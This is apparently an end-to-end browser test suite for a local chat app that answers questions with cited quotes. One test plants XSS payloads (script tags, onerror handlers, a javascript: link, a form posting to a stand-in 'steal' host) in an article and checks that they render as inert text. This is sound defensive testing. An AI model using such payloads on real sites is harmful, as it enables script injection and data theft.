"""The chat as a person meets it: real models, real server, real browser."""

import os
import re
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.error import URLError
from urllib.request import Request, urlopen

import pytest

from qa.chat.page import EXAMPLES
from tests.conftest import ROOT, models_folder

pytestmark = [pytest.mark.models, pytest.mark.browser]

ARTEFACTS = ROOT / "artefacts"
START_SECONDS = 90
ANSWER_MS = 30_000
QUESTION = "#ibid-question textarea"
GROUP = "#ibid-evidence .ibid-group"

PAYLOADS = """---
title: "<script>window.hacked=1</script><img src=http://192.0.2.1/t.png onerror=window.hacked=2>"
author: "<svg onload=window.hacked=3>"
published: 2024-02-03
---

The zeppelin of Quarm was painted green <script>window.hacked=4</script> by Ines Vogel in 1924 <img src=x onerror="window.hacked=5">
![pixel](http://192.0.2.1/p.png)
<form action="http://192.0.2.1/steal"><input name=q><button>Go</button></form> ${window.hacked=6} {{hacked}}
<div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div> <a href="javascript:window.hacked=7">here</a> $\\href{x}{y}$.
"""


class Chat:
    """A running `ibid chat`, ended with the test."""

    def __init__(self, home: Path, articles: Path | None, *options: str) -> None:
        self.home = home
        environment = os.environ | {"IBID_HOME": str(home), "IBID_MODELS": str(models_folder())}
        ibid = [sys.executable, "-c", "from qa.cli import main; main()"]
        if articles:
            subprocess.run([*ibid, "index", str(articles)], cwd=ROOT, env=environment, check=True, capture_output=True)
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            self.port = free.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}/"
        command = [*ibid, "chat", "--no-open", "--port", str(self.port), *options]
        self._told = tempfile.TemporaryFile("w+", encoding="utf-8")  # noqa: SIM115 - it is closed when the chat stops
        self.process = subprocess.Popen(command, cwd=ROOT, env=environment, stdout=subprocess.DEVNULL, stderr=self._told)
        deadline = time.monotonic() + START_SECONDS
        while not self._answers():
            assert self.process.poll() is None, self.told()
            assert time.monotonic() < deadline, "the chat did not come up"
            time.sleep(0.2)

    def _answers(self) -> bool:
        try:
            with urlopen(self.url, timeout=5) as response:
                return bool(response.status == 200)
        except (URLError, OSError):
            return False

    def stop(self) -> None:
        self.process.terminate()
        assert self.process.wait(timeout=30) == 0
        self._told.close()

    def told(self) -> str:
        """Return what the process wrote to stderr."""
        self._told.seek(0)
        return self._told.read()


@pytest.fixture(scope="module")
def chat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chat]:
    """The chat with no index yet: it indexes the built-in articles."""
    running = Chat(tmp_path_factory.mktemp("home"), None)
    yield running
    running.stop()


class Page:
    """A page of the chat that counts what it asks of other hosts."""

    def __init__(
        self, browser: Any, chat: Chat, *, width: int = 1440, scheme: str = "light", waits_for: str = QUESTION, **more: Any
    ) -> None:
        self.context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme, **more)
        self.page = self.context.new_page()
        self.outside: list[str] = []
        self.errors: list[str] = []
        self.context.route(lambda url: not url.startswith((chat.url, "data:", "blob:")), self._refuse)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.goto(chat.url)
        self.page.wait_for_selector(waits_for)

    def _refuse(self, route: Any) -> None:
        self.outside.append(route.request.url)
        route.fulfill(status=200, body="")

    def add_to_library(self, file: Path) -> None:
        with self.page.expect_file_chooser() as choosing:
            self.page.locator("#ibid-add").click()
        choosing.value.set_files(file)

    def wait_for_rows(self, n: int, *, within: int = ANSWER_MS) -> None:
        """Wait until the library lists `n` articles."""
        rows = "document.querySelectorAll('.ibid-library tbody tr').length"
        self.page.wait_for_function(f"{rows} === {n}", timeout=within)

    def ask(self, question: str) -> None:
        before = self.page.locator(GROUP).count()
        self.page.fill(QUESTION, question)
        self.page.press(QUESTION, "Enter")
        self.page.wait_for_function(f"document.querySelectorAll('{GROUP}').length > {before}", timeout=ANSWER_MS)
        self.page.wait_for_function(f"!document.querySelector('{QUESTION}').disabled", timeout=ANSWER_MS)

    def open_conversations_and_filters(self) -> None:
        """Ask the first source's article only, and open what stands beside the conversation and below it."""
        self.page.locator('[data-act="only"]').first.click()
        self.page.locator(".ibid-chips").wait_for(state="visible", timeout=ANSWER_MS)
        self.page.locator(".toggle-button").first.click()
        self.page.locator("#ibid-filters button").first.click()
        self.page.locator("#ibid-since").wait_for(state="visible")

    def faults(self, screen: str) -> list[str]:
        """Return what axe-core finds serious or critical on the screen as it is."""
        from axe_playwright_python.sync_playwright import Axe

        found = Axe().run(self.page).response["violations"]
        return [
            f"{screen}: {fault['id']}: {fault['nodes'][0]['html'][:99]}" for fault in found if fault["impact"] in ("serious", "critical")
        ]


def test_a_question_gets_a_quote_and_its_citation_shows_it_marked(chat: Chat, browser: Any) -> None:
    one = Page(browser, chat)
    one.ask("Which treaty did Putin and Kim sign in June 2024?")
    quote = one.page.locator(".ibid-quote").first.inner_text()
    assert "Comprehensive Strategic Partnership Treaty" in quote
    link = one.page.locator(".ibid-quote a.ibid-cite").first
    assert link.inner_text() == "[1]"
    link.click()
    card = one.page.locator(".ibid-card.ibid-lit")
    card.wait_for(state="visible")
    assert card.count() == 1
    assert card.locator("mark").inner_text() in quote
    assert "Ibid editors" in card.inner_text()
    assert one.page.evaluate("document.activeElement.id") == card.get_attribute("id")
    assert one.errors == [] and one.outside == []
    one.context.close()


def test_abstaining_looks_different_and_shows_what_is_nearest(chat: Chat, browser: Any) -> None:
    one = Page(browser, chat)
    one.ask("How tall is the Eiffel Tower?")
    assert "Not in these articles" in one.page.locator(".ibid-abstain").inner_text()
    assert one.page.locator(".ibid-quote").count() == 0
    assert one.page.locator("mark").count() == 0
    assert one.page.locator(".ibid-card.ibid-nearest").count() >= 1
    one.context.close()


def test_an_older_citation_still_leads_to_its_own_quote(chat: Chat, browser: Any) -> None:
    one = Page(browser, chat)
    one.ask("Which treaty did Putin and Kim sign in June 2024?")
    one.ask("When did Lavrov travel to Pyongyang?")
    one.page.locator(".ibid-quote a.ibid-cite").first.click()
    card = one.page.locator(".ibid-card.ibid-lit")
    card.wait_for(state="visible")
    assert "Comprehensive Strategic Partnership Treaty" in card.locator("mark").inner_text()
    one.context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1440, 390])
def test_the_page_fits_and_keeps_the_focus(chat: Chat, browser: Any, width: int, scheme: str) -> None:
    """No side-scroll at any width; after Enter the question's field has the focus again. Pictures are kept."""
    one = Page(browser, chat, width=width, scheme=scheme)
    one.ask("When did Lavrov travel to Pyongyang?")
    one.ask("What is the capital of Peru?")
    one.page.wait_for_function(f"document.activeElement === document.querySelector('{QUESTION}')")
    assert one.page.evaluate("document.documentElement.scrollWidth") <= width
    ARTEFACTS.mkdir(exist_ok=True)
    one.page.screenshot(path=ARTEFACTS / f"chat-{width}-{scheme}.png", full_page=True)
    assert one.outside == []
    one.context.close()


TREATY = "Which treaty did Putin and Kim sign in June 2024?"
LAVROV = "When did Lavrov travel to Pyongyang?"


def test_an_article_opens_at_its_quote_and_can_be_searched(chat: Chat, browser: Any) -> None:
    """By keys alone: the quote's card, its article at the mark, the words in it, and back."""
    one = Page(browser, chat)
    one.ask(TREATY)
    quote = one.page.locator(".ibid-card mark").first.inner_text()
    one.page.wait_for_function(f"document.activeElement === document.querySelector('{QUESTION}')")
    one.page.keyboard.press("Escape")
    one.page.keyboard.press("1")
    assert one.page.evaluate("document.activeElement.classList.contains('ibid-card')")
    one.page.keyboard.press("o")
    reader = one.page.locator("#ibid-reading .ibid-reader")
    reader.wait_for(state="visible", timeout=ANSWER_MS)
    assert " ".join(quote.split()) in " ".join(" ".join(reader.locator("mark").all_inner_texts()).split())
    one.page.wait_for_function("document.activeElement.classList.contains('ibid-place')")
    assert one.page.evaluate("document.activeElement.getBoundingClientRect().top < innerHeight")
    assert not one.page.locator("#ibid-evidence").is_visible()
    one.page.fill(".ibid-find", "pyongyang")
    one.page.wait_for_function("/^[1-9][0-9]* found$/.test(document.querySelector('span.ibid-found').textContent)")
    for _ in range(2):
        one.page.keyboard.press("Escape")
    assert one.page.locator("#ibid-evidence").is_visible()
    one.page.keyboard.press("?")
    assert one.page.locator("#ibid-help").is_visible()
    assert one.errors == [] and one.outside == []
    one.context.close()


def test_a_quote_is_copied_with_its_reference(chat: Chat, browser: Any) -> None:
    one = Page(browser, chat)
    one.context.grant_permissions(["clipboard-read", "clipboard-write"])
    one.ask(TREATY)
    one.page.locator(".ibid-card [data-copy]").nth(3).click()
    copied = one.page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith("@misc{") and one.page.locator(".ibid-card mark").first.inner_text() in copied
    one.context.close()


def test_filters_stand_in_the_link_and_can_be_taken_away(chat: Chat, browser: Any) -> None:
    one = Page(browser, chat)
    one.page.goto(f"{chat.url}?articles=what-each-side-wants.md&since=2020-01-01&articles=none.md")
    chips = one.page.locator(".ibid-chips button")
    one.page.wait_for_function("document.querySelectorAll('.ibid-chips button').length === 4")
    one.ask(TREATY)
    one.ask("What does North Korea's navy want from Russia?")
    assert "what-each-side-wants.md" in " ".join(one.page.locator(".ibid-card footer").all_inner_texts())
    assert "a-treaty" not in " ".join(one.page.locator(".ibid-card footer").all_inner_texts())
    for left in (1, 0):
        one.page.locator('.ibid-chips [data-act="without"]').first.click()
        one.page.wait_for_function(f"document.querySelectorAll('.ibid-chips [data-act=without]').length === {left}", timeout=ANSWER_MS)
    one.page.locator('[data-act="only"]').first.click()
    chips.first.wait_for(state="visible")
    one.context.close()


def test_conversations_are_kept_continued_renamed_saved_and_deleted(chat: Chat, browser: Any) -> None:
    one = Page(browser, chat)
    one.ask(LAVROV)
    shown = one.page.locator(".ibid-quote").first.inner_text()
    again = Page(browser, chat)
    again.page.locator("#ibid-sidebar, .sidebar").locator(".toggle-button").first.click()
    again.page.locator(".ibid-load").first.click()
    again.page.locator(".ibid-quote").first.wait_for(state="visible", timeout=ANSWER_MS)
    assert again.page.locator(".ibid-quote").first.inner_text() == shown
    again.page.locator(".ibid-quote a.ibid-cite").first.click()
    again.page.locator(".ibid-card.ibid-lit mark").wait_for(state="visible")
    again.ask("And why?")
    assert again.page.locator(GROUP).count() == 2
    again.page.fill("#ibid-title textarea, #ibid-title input", "The visit, dated")
    again.page.keyboard.press("Enter")
    again.page.get_by_role("button", name="The visit, dated").first.wait_for(state="visible", timeout=ANSWER_MS)
    with again.page.expect_download() as saving:
        again.page.locator('#ibid-export [data-act="markdown"]').click()
    assert saving.value.suggested_filename == "the-visit-dated.md"
    before = again.page.locator(".ibid-load").count()
    for _ in range(2):
        again.page.locator(".ibid-delete").first.click()
    again.page.wait_for_function(f"document.querySelectorAll('.ibid-load').length === {before - 1}", timeout=ANSWER_MS)
    again.page.wait_for_function(f"document.querySelectorAll('{GROUP}').length === 0", timeout=ANSWER_MS)
    assert again.errors == [] and again.outside == []
    for page in (one, again):
        page.context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1440, 390])
def test_an_open_article_fits(chat: Chat, browser: Any, width: int, scheme: str) -> None:
    one = Page(browser, chat, width=width, scheme=scheme)
    one.ask(TREATY)
    one.page.locator('[data-act="open"]').first.click()
    one.page.locator(".ibid-reader").wait_for(state="visible", timeout=ANSWER_MS)
    assert one.page.evaluate("document.documentElement.scrollWidth") <= width
    one.page.screenshot(path=ARTEFACTS / f"reader-{width}-{scheme}.png")
    one.page.locator(".ibid-reader footer").scroll_into_view_if_needed()
    one.page.wait_for_function("document.querySelector('.ibid-bar').getBoundingClientRect().top >= 0")
    one.context.close()


def test_the_library_is_added_to_sorted_searched_and_taken_from(tmp_path: Path, browser: Any) -> None:
    """What is added answers at once; what is removed comes back with undo; a failure is told."""
    (tmp_path / "articles").mkdir()
    (tmp_path / "articles" / "tower.txt").write_text("The tower\n\nThe tower of Ostrava burned down in 1794 during a thunderstorm.\n")
    mill = tmp_path / "mill.txt"
    mill.write_text("News from the mill\n\nThe miller of Zennor sold nineteen windmills to Portugal in 1911. Nobody knows why he did so.\n")
    running = Chat(tmp_path / "home", tmp_path / "articles")
    try:
        one = Page(browser, running)
        one.page.get_by_role("tab", name="Library").click()
        one.add_to_library(mill)
        titles = one.page.locator('.ibid-library [data-act="show"]')
        one.wait_for_rows(2, within=START_SECONDS * 1000)
        assert "1 added" in one.page.locator(".ibid-report").inner_text()
        one.page.locator('[data-sort="4"]').click()
        one.page.locator('[data-sort="4"]').click()
        assert titles.all_inner_texts() == ["News from the mill", "The tower"]
        one.page.fill(".ibid-rows", "tower")
        assert one.page.locator(".ibid-library tbody tr:visible").count() == 1
        one.page.fill(".ibid-rows", "")
        titles.first.click()
        one.page.locator("#ibid-text .ibid-reader").wait_for(state="visible", timeout=ANSWER_MS)
        assert "nineteen windmills" in one.page.locator("#ibid-text").inner_text()
        one.page.screenshot(path=ARTEFACTS / "library-1440-light.png")
        one.page.locator("#ibid-remove").click()
        one.wait_for_rows(1)
        one.page.locator("#ibid-undo").click()
        one.wait_for_rows(2)
        (tmp_path / "articles").rename(tmp_path / "elsewhere")
        one.page.locator("#ibid-sync").click()
        one.page.locator(".toast-body").first.wait_for(state="visible", timeout=ANSWER_MS)
        one.page.get_by_role("tab", name="Ask").click()
        one.ask("To which country did the miller of Zennor sell his windmills?")
        assert "Portugal" in one.page.locator(".ibid-quote").first.inner_text()
        assert one.errors == [] and one.outside == []
        one.page.set_viewport_size({"width": 390, "height": 844})
        one.page.get_by_role("tab", name="Library").click()
        assert one.page.evaluate("document.documentElement.scrollWidth") <= 390
        one.context.close()
    finally:
        running.stop()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_shuts_anyone_out(chat: Chat, browser: Any, scheme: str) -> None:
    """axe-core finds nothing serious or critical on any screen: empty, answered, abstained, article, conversations, filters."""
    one = Page(browser, chat, scheme=scheme)
    seen = one.faults("empty")
    one.ask("What does North Korea's navy want from Russia?")
    one.ask("How tall is the Eiffel Tower?")
    seen += one.faults("asked")
    one.page.locator(".ibid-group summary").last.click()
    one.page.locator('[data-act="open"]').last.click()
    one.page.locator(".ibid-reader").wait_for(state="visible", timeout=ANSWER_MS)
    seen += one.faults("article")
    one.page.keyboard.press("Escape")
    one.open_conversations_and_filters()
    seen += one.faults("conversations and filters")
    one.page.locator(".toggle-button").first.click()
    one.page.get_by_role("tab", name="Library").click()
    one.page.locator('.ibid-library [data-act="show"]').first.click()
    one.page.locator("#ibid-text .ibid-reader").wait_for(state="visible", timeout=ANSWER_MS)
    seen += one.faults("library")
    for view in ("Timeline", "Map"):
        one.page.get_by_role("tab", name=view, exact=True).click()
        one.page.locator(f"#ibid-{view.lower()} .ibid-chart").wait_for(state="visible")
        seen += one.faults(view)
    assert seen == []
    one.context.close()


def test_every_example_question_is_answered(chat: Chat, browser: Any) -> None:
    one = Page(browser, chat)
    for i, question in enumerate(EXAMPLES, start=1):
        one.ask(question)
        assert one.page.locator(".ibid-answer").count() == i, question
    one.context.close()


def test_the_pictures_of_the_library_open_articles(chat: Chat, browser: Any) -> None:
    """By the mouse on the timeline, by a key on the map; neither can be scrolled aside on a narrow page."""
    one = Page(browser, chat)
    one.page.get_by_role("tab", name="Library").click()
    for view in ("Timeline", "Map"):
        one.page.get_by_role("tab", name=view, exact=True).click()
        dot = one.page.locator(f"#ibid-{view.lower()} .ibid-wide [data-act]").last
        dot.wait_for(state="visible")
        assert one.page.locator(f"#ibid-{view.lower()} .ibid-wide [data-act]").count() == 5
        if view == "Map":
            dot.focus()
            one.page.keyboard.press("Enter")
        else:
            dot.locator("circle").click()
        title = dot.get_attribute("aria-label").partition(",")[0]
        one.page.locator("#ibid-text h2").filter(has_text=title[:40]).wait_for(state="visible", timeout=ANSWER_MS)
    one.page.set_viewport_size({"width": 390, "height": 844})
    one.page.locator("#ibid-map .ibid-narrow").wait_for(state="visible")
    assert one.page.evaluate("document.documentElement.scrollWidth") <= 390
    assert one.errors == [] and one.outside == []
    one.context.close()


def test_what_is_offered_is_answered(chat: Chat, browser: Any) -> None:
    """Questions to begin with, and those below an answer; one that filters kept from its answer is asked of all."""
    one = Page(browser, chat)
    one.page.locator("#ibid-chat a.ibid-ask").first.click()
    one.page.locator(".ibid-answer").first.wait_for(state="visible", timeout=ANSWER_MS)
    one.page.wait_for_function(f"!document.querySelector('{QUESTION}').disabled", timeout=ANSWER_MS)
    one.page.goto(f"{chat.url}?articles=what-each-side-wants.md")
    one.page.locator(".ibid-chips").wait_for(state="visible")
    one.ask(TREATY)
    one.page.locator("#ibid-chat a.ibid-broad").click()
    one.page.locator(".ibid-answer").first.wait_for(state="visible", timeout=ANSWER_MS)
    assert "Comprehensive Strategic" in one.page.locator(".ibid-quote").first.inner_text()
    assert one.page.locator(".ibid-chips").count() == 0 and one.errors == []
    one.context.close()


def test_payloads_in_an_article_are_inert(tmp_path: Path, browser: Any) -> None:
    """Scripts, pictures, forms and overlays in title, author and text are shown as the words they are."""
    (tmp_path / "articles").mkdir()
    (tmp_path / "articles" / "zeppelin.md").write_text(PAYLOADS)
    running = Chat(tmp_path / "home", tmp_path / "articles")
    try:
        one = Page(browser, running)
        one.ask("Who painted the zeppelin of Quarm green in 1924?")
        for question in (
            "<img src=http://192.0.2.1/q.png onerror=window.hacked=8> zeppelin",
            "![x](http://192.0.2.1/m.png) zeppelin ${1+1}",
        ):
            one.ask(question)
        one.page.locator('[data-act="open"]').first.click()
        one.page.locator(".ibid-reader").wait_for(state="visible", timeout=ANSWER_MS)
        assert "<script>window.hacked=4</script>" in one.page.locator(".ibid-reader").inner_text()
        assert one.page.locator("#ibid-reading form, #ibid-reading img, #ibid-reading svg, #ibid-reading script").count() == 0
        one.page.keyboard.press("Escape")
        shown = one.page.locator("#ibid-evidence").inner_text() + one.page.locator("#ibid-chat").inner_text()
        assert "<script>window.hacked=4</script>" in shown and "Ines Vogel" in shown
        assert one.page.evaluate("window.hacked") is None
        assert (
            one.page.locator("#ibid-evidence form, #ibid-chat form, #ibid-evidence img, #ibid-evidence svg, #ibid-evidence script").count()
            == 0
        )
        assert one.page.evaluate("document.elementFromPoint(700, 450).closest('#ibid-columns, .main') !== null")
        assert one.outside == []
        one.context.close()
    finally:
        running.stop()


def test_the_code_of_the_readme_asks_a_running_chat(chat: Chat) -> None:
    _, code = re.findall(r"```python\n(.*?)```", (ROOT / "README.md").read_text(), re.DOTALL)
    code = code.replace("http://127.0.0.1:7860", chat.url) + "\nassert answer['citations'], answer\n"
    subprocess.run([sys.executable, "-c", code], cwd=ROOT, check=True, capture_output=True)


def test_programs_ask_search_and_list(chat: Chat) -> None:
    """By the endpoints that are named; what is wrong is told in words, and nothing that is asked so is kept."""
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    client = Client(chat.url, verbose=False)
    named = set(client.view_api(return_format="dict", print_info=False)["named_endpoints"])
    assert {"/ask", "/search", "/articles", "/sync", "/chat"} <= named
    answer = client.predict(TREATY, api_name="/ask")
    assert answer["verdict"] == "answered" and "Comprehensive Strategic" in answer["citations"][0]["quote"]
    only = client.predict(question=TREATY, articles=["what-each-side-wants.md"], since="2020-01-01", api_name="/ask")
    assert {one["article"]["id"] for one in only["citations"] + only["nearest"]} == {"what-each-side-wants.md"}
    assert len(client.predict(words="shells", k=3, api_name="/search")["hits"]) == 3
    ids = [one["id"] for one in client.predict(api_name="/articles")["articles"]]
    assert len(ids) == 5 and "a-million-shells.md" in ids
    synced = client.predict(api_name="/sync")
    assert len(synced["unchanged"]) == synced["articles"] == 5 and synced["failed"] == []
    with pytest.raises(AppError, match="write it as 2024-06-19"):
        client.predict(question=TREATY, since="soon", api_name="/ask")


def test_the_server_names_its_policy_and_refuses_other_hosts(chat: Chat) -> None:
    with urlopen(chat.url, timeout=10) as response:
        policy = response.headers["content-security-policy"]
        page = response.read().decode()
    assert "default-src 'self'" in policy and "form-action 'self'" in policy and "object-src 'none'" in policy
    assert not re.findall(r"(?:src|href)=\"https?://(?!127\.0\.0\.1)[^\"]+\.(?:js|css|woff2?)\"", page)
    with pytest.raises(URLError) as refused:
        urlopen(Request(chat.url, headers={"Host": "evil.example"}), timeout=10)
    assert getattr(refused.value, "code", 0) == 400
    refused.value.close()  # type: ignore[attr-defined]
